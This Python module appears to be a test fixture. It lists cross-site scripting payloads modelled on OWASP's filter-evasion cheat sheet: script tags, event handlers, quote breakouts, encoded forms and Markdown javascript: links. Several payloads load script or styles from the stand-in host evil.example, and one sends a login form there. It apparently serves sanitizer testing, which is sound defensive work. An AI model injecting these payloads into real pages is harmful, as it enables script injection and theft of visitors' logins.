"""Text that tries to become a script of the page that shows it, after the ways that OWASP's cheat sheet on the evasion of
filters lists: elements, handlers, schemes, broken quotes, encodings, styles, and what Markdown adds of its own."""

EVIL = "//evil.example/x.js"

ELEMENTS = [
    "<script>alert(1)</script>",
    f"<SCRIPT SRC=https:{EVIL}></SCRIPT>",
    f"<SCRIPT/XSS SRC='https:{EVIL}'></SCRIPT>",
    f"<SCRIPT SRC={EVIL}",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    f"<iframe src='https:{EVIL}' <",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    f"<base href='https:{EVIL}'>",
    f"<link rel=stylesheet href='https:{EVIL}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/x)}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action='https://evil.example'><button autofocus onfocus=alert(1)>Log in",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=/ onerror='alert(String.fromCharCode(88))'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x onerror=&#0000097&#0000108ert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<svg onload=alert(1)>",
    "<svg/onload\n=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style='width:expression(alert(1))' onmouseover=alert(1)>",
    "<x contenteditable onblur=alert(1) tabindex=0 autofocus onfocus=alert(1)>",
]

QUOTES = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onfocus=alert(1) autofocus `",
    "';alert(String.fromCharCode(88))//\\';alert(1)//\";alert(1)//",
    "\\\";alert(1);//",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]

MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](java&#x09;script&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](https://example.com/'onfocus=alert(1)/autofocus)",
    '[a](https://example.com/ "\\" onfocus=alert(1) autofocus ")',
    "<javascript:alert(1)>",
    "![a](https://evil.example/x.png)",
    "![a](javascript:alert(1))",
    '![a"onerror="alert(1)](x)',
    "[a]: javascript:alert(1)\n\n[a]",
    "`<img src=x onerror=alert(1)>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "<a href='javascript:alert(1)'>a</a>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [a](javascript:alert(1)) | </td><script>alert(1)</script> |",
]

ALL = ELEMENTS + HANDLERS + QUOTES + ENCODED + MARKDOWN
